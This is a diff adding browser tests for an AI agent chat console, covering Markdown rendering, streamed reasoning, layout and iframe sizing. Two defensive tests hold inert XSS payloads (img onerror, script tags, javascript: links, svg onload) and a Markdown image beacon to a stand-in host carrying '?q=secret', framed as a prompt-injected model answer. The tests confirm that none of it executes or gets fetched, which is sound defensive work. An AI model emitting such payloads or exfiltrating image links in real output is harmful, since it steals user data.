@@ -24,7 +24,7 @@ from playwright.async_api import Browser, Page, Route, async_playwright, expect
 from playwright.async_api import Error as PlaywrightError
 
 from app.devtools import FakeUpstream
-from app.devtools.script import Finish, Gate, Text, Usage, http_error_script, text_script
+from app.devtools.script import Finish, Gate, Reasoning, Text, Usage, http_error_script, text_script
 from app.errors import ToolError
 from app.tools.browser import launch_chromium
 from tests.engine.helpers import call, tool_message
@@ -482,3 +482,226 @@ async def test_stop_interrupts_the_run_that_outlives_its_connection(
     await expect(page.locator("#send")).to_have_text("Send")
     run = (await client.get(gw.url + "/api/ap/run", params={"runId": record["runId"]})).json()["data"]
     assert run["status"] == "cancelled"
+
+
+# ---- reading experience: Markdown, reasoning, layout, viewport heights --------------------------
+
+XSS_PAYLOAD = (
+    '<img src=x onerror="window.__xss = \'img\'"> <script>window.__xss = "script"</script>\n\n'
+    '<a href="javascript:window.__xss=\'a\'" onclick="window.__xss=\'onclick\'">raw link</a> '
+    "[md link](javascript:window.__xss='md') <svg onload=\"window.__xss='svg'\"></svg>\n"
+)
+MARKDOWN_ANSWER = (
+    "# Report\n\nSee **the docs** at [the site](https://example.com/docs).\n\n"
+    "- first item\n- second item\n\n"
+    "```python\nprint('<b>not bold</b>')\n```\n\n"
+    "| name | value |\n|------|-------|\n| alpha | 1 |\n| beta | 2 |\n\n"
+)
+
+
+async def markup_of(page: Page) -> dict[str, Any]:
+    """What the latest answer's Markdown turned into: counts of the elements an attack would need."""
+    result: dict[str, Any] = await answer(page).evaluate("""c => ({
+        xss: window.__xss === undefined ? null : String(window.__xss),
+        imgs: c.querySelectorAll("img").length,
+        scripts: c.querySelectorAll("script").length,
+        svgs: c.querySelectorAll("svg").length,
+        handlers: [...c.querySelectorAll("*")].filter(n => [...n.attributes].some(a => /^on/i.test(a.name))).length,
+        jsLinks: [...c.querySelectorAll("a")].filter(a => /^\\s*javascript:/i.test(a.getAttribute("href") || "")).length,
+    })""")
+    return result
+
+
+async def test_attack_xss_in_the_model_answer_does_not_execute_and_markdown_renders(
+    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
+) -> None:
+    """A (prompt-injected) answer carrying raw HTML: it is shown as text, never parsed; the
+    Markdown around it renders, delta by delta, live and from the history."""
+    write_agent(deploy, "md", agent())
+    gw = start_gateway()
+    text = MARKDOWN_ANSWER + XSS_PAYLOAD
+    cut = text.index("- second item") + len("- sec")
+    upstream.enqueue([Text(text[:20]), Text(text[20:cut]), Gate("g1"), Text(text[cut:]), Usage(10, 5), Finish()])
+    await open_console(page, gw, "md")
+    await ask(page, "report")
+    # incremental: the structures so far are rendered while the upstream withholds the rest
+    content = answer(page)
+    await expect(content.locator("h1")).to_have_text("Report")
+    await expect(content.locator("ul > li")).to_have_text(["first item", "sec"])
+    upstream.release("g1")
+    await expect(page.locator(".done")).to_be_visible()
+
+    for replay in (False, True):
+        if replay:  # the same answer drawn from GET /api/ap/chat (content.snapshot)
+            await page.click("#new-chat")
+            await page.locator("#chats li").click()
+            await expect(page.locator(".msg.user")).to_have_text("report")
+        content = answer(page)
+        await expect(content.locator("h1")).to_have_text("Report")
+        await expect(content.locator("strong")).to_have_text("the docs")
+        await expect(content.locator("ul > li")).to_have_text(["first item", "second item"])
+        await expect(content.locator("pre > code")).to_have_text("print('<b>not bold</b>')")
+        assert await content.locator("pre b").count() == 0
+        await expect(content.locator("table th")).to_have_text(["name", "value"])
+        await expect(content.locator("table tbody tr")).to_have_count(2)
+        await expect(content.locator("table tbody td")).to_have_text(["alpha", "1", "beta", "2"])
+        link = content.locator("a", has_text="the site")
+        assert await link.get_attribute("href") == "https://example.com/docs"
+        assert await link.get_attribute("target") == "_blank"
+        assert "noopener" in (await link.get_attribute("rel") or "").split()
+        # the attack: shown as text, nothing of it became markup
+        await expect(content).to_contain_text('<img src=x onerror="window.__xss')
+        await expect(content).to_contain_text('<script>window.__xss = "script"</script>')
+        await expect(content).to_contain_text("[md link](javascript:")
+        await content.get_by_text("raw link").click()
+        await content.get_by_text("md link").click()
+        assert await markup_of(page) == {"xss": None, "imgs": 0, "scripts": 0, "svgs": 0, "handlers": 0,
+                                         "jsLinks": 0}
+
+
+async def test_attack_markdown_image_beacons_data_to_a_remote_host(
+    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
+) -> None:
+    """``![x](https://attacker/?q=<secret>)`` in an answer would be fetched the moment it is drawn:
+    images are drawn as links, nothing is requested from the image's host."""
+    write_agent(deploy, "md", agent())
+    gw = start_gateway()
+    beacons: list[str] = []
+
+    async def beacon(route: Route) -> None:
+        beacons.append(route.request.url)
+        await route.abort()
+
+    await page.route("**/exfil.invalid/**", beacon)
+    upstream.enqueue(text_script(["Here: ![the chart](https://exfil.invalid/c.png?q=secret) done."]))
+    await open_console(page, gw, "md")
+    await ask(page, "chart")
+    await expect(page.locator(".done")).to_be_visible()
+    link = answer(page).locator("a.image-link")
+    await expect(link).to_have_text("🖼 the chart")
+    assert await link.get_attribute("href") == "https://exfil.invalid/c.png?q=secret"
+    assert await link.get_attribute("rel") == "noopener noreferrer"
+    assert (await markup_of(page))["imgs"] == 0
+    assert beacons == []
+
+
+async def test_reasoning_is_visible_while_it_streams_then_folds_and_reopens(
+    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
+) -> None:
+    write_agent(deploy, "thinker", agent(reasoning=True))
+    gw = start_gateway()
+    upstream.enqueue([Reasoning("Two plus "), Reasoning("two is four."), Gate("g1"),
+                      Text("The answer is **4**."), Usage(10, 5), Finish()])
+    await open_console(page, gw, "thinker")
+    await ask(page, "2+2?")
+    box = page.locator(".msg.assistant details.reasoning")
+    await expect(box.locator(".reasoning-text")).to_have_text("Two plus two is four.")
+    await expect(box.locator(".reasoning-text")).to_be_visible()  # open while it streams
+    await expect(box.locator("summary")).to_have_text("Thinking…")
+    assert await page.locator(".done").count() == 0
+
+    upstream.release("g1")
+    await expect(page.locator(".done")).to_be_visible()
+    await expect(answer(page).locator("strong")).to_have_text("4")
+    await expect(box.locator(".reasoning-text")).to_be_hidden()  # folded once the answer came
+    await expect(box.locator("summary")).to_have_text("Reasoning")
+    await box.locator("summary").click()
+    await expect(box.locator(".reasoning-text")).to_be_visible()
+    await expect(box.locator(".reasoning-text")).to_have_text("Two plus two is four.")
+
+
+WIDE_ANSWER = (
+    "## Shipping summary\n\n"
+    "Tracking: https://example.com/track/" + "x" * 120 + "\n\n"
+    "1. Packed\n2. Shipped\n3. Out for delivery\n\n"
+    "```\n" + "long_code_line = " + "'abcdefghij' + " * 20 + "'end'\n```\n\n"
+    "| id | carrier | status | location | updated | note |\n|---|---|---|---|---|---|\n"
+    "| 1 | Express Logistics | in transit | Shanghai distribution centre | 2026-02-13 10:00 | fragile |\n\n"
+)
+
+
+async def test_layout_fits_phone_and_desktop_widths(
+    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page, tmp_path: Path
+) -> None:
+    """No horizontal page overflow at 390 px or 1280 px; on a phone the sidebar is a drawer.
+    Screenshots: ``layout-390x844.png`` and ``layout-1280x800.png`` under tmp_path."""
+    write_agent(deploy, "wide", agent(reasoning=True, name="A helper with a rather long display name"))
+    gw = start_gateway()
+    card = orjson.dumps({"city": "Shanghai", "date": "2026-02-13", "temperatureC": 22}).decode()
+    upstream.enqueue(text_script([WIDE_ANSWER, f"```viewport\ntype=html, key=show_weather_card\n{card}\n```\nDone."],
+                                 reasoning=["Looking up the shipment and the weather."]))
+    await page.set_viewport_size({"width": 390, "height": 844})
+    await open_console(page, gw, "wide")
+    sidebar = page.locator("#sidebar")
+    toggle = page.locator("#sidebar-toggle")
+    await expect(toggle).to_be_visible()
+    await expect(sidebar).to_be_hidden()
+    await ask(page, "where is my parcel? " + "please " * 30)
+    await expect(page.locator(".done")).to_be_visible()
+    await expect(page.frame_locator(".content iframe.viewport").locator("#root")).to_contain_text("Shanghai")
+    frame = answer(page).locator("iframe.viewport")
+    await expect(frame).not_to_have_css("height", "150px")  # fitted to the card
+    await expect(answer(page).locator("table")).to_be_visible()
+
+    for width, height in ((390, 844), (1280, 800)):
+        await page.set_viewport_size({"width": width, "height": height})
+        sizes = await page.evaluate(
+            "() => ({scroll: document.scrollingElement.scrollWidth, inner: innerWidth,"
+            " composer: document.getElementById('composer').getBoundingClientRect().right})")
+        assert sizes["scroll"] <= sizes["inner"] == width, sizes
+        assert sizes["composer"] <= width, sizes
+        await page.screenshot(path=str(tmp_path / f"layout-{width}x{height}.png"), animations="disabled")
+        if width == 390:
+            await expect(sidebar).to_be_hidden()
+            await toggle.click()
+            await expect(sidebar).to_be_visible()
+            await expect(toggle).to_have_attribute("aria-expanded", "true")
+            await page.screenshot(path=str(tmp_path / "layout-390x844-sidebar.png"), animations="disabled")
+            await page.locator("#chats li").click()  # reopening a chat closes the drawer
+            await expect(sidebar).to_be_hidden()
+            await expect(page.locator(".done")).to_be_visible()
+            await page.fill("#message", "typed on a phone")  # the input is usable
+            await expect(page.locator("#message")).to_have_value("typed on a phone")
+        else:
+            await expect(toggle).to_be_hidden()
+            await expect(sidebar).to_be_visible()
+
+
+GROW_VIEWPORT = """<!DOCTYPE html>
+<html><body style="margin:0"><div id="root" style="background:#def"></div>
+<script>
+addEventListener("message", (event) => {
+  if (event.source !== parent || !event.data || event.data.type !== "viewport_init") return;
+  const root = document.getElementById("root");
+  root.style.height = event.data.data.px + "px";
+  root.textContent = "grown to " + event.data.data.px;
+});
+</script></body></html>
+"""
+
+
+async def test_viewport_iframe_grows_to_its_content_up_to_a_cap(
+    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
+) -> None:
+    (deploy / "viewports" / "grow_card.html").write_text(GROW_VIEWPORT, encoding="utf-8")
+    write_agent(deploy, "cards", agent())
+    gw = start_gateway()
+    blocks = [f"```viewport\ntype=html, key=grow_card\n{{\"px\": {px}}}\n```\n" for px in (480, 3000)]
+    upstream.enqueue(text_script(["Small:\n", blocks[0], "Huge:\n", blocks[1]]))
+    await open_console(page, gw, "cards")
+    await ask(page, "cards")
+    frames = answer(page).locator("iframe.viewport")
+    await expect(frames).to_have_count(2)
+    for index, px in enumerate((480, 3000)):
+        await expect(page.frame_locator(".content iframe.viewport").nth(index).locator("#root")).to_have_text(
+            f"grown to {px}")
+    small, huge = frames.nth(0), frames.nth(1)
+    await expect(small).to_have_css("height", "480px")  # exactly its content, no inner scrollbar
+    cap = await huge.evaluate("f => parseFloat(getComputedStyle(f).maxHeight)")
+    assert 0 < cap < 3000
+    await expect(huge).to_have_js_property("clientHeight", int(cap))  # capped…
+    inner = await (await huge.element_handle()).content_frame()
+    assert inner is not None
+    scroll = await inner.evaluate("() => [document.scrollingElement.scrollHeight, innerHeight]")
+    assert scroll == [3000, int(cap)]  # …and its content scrolls inside
+
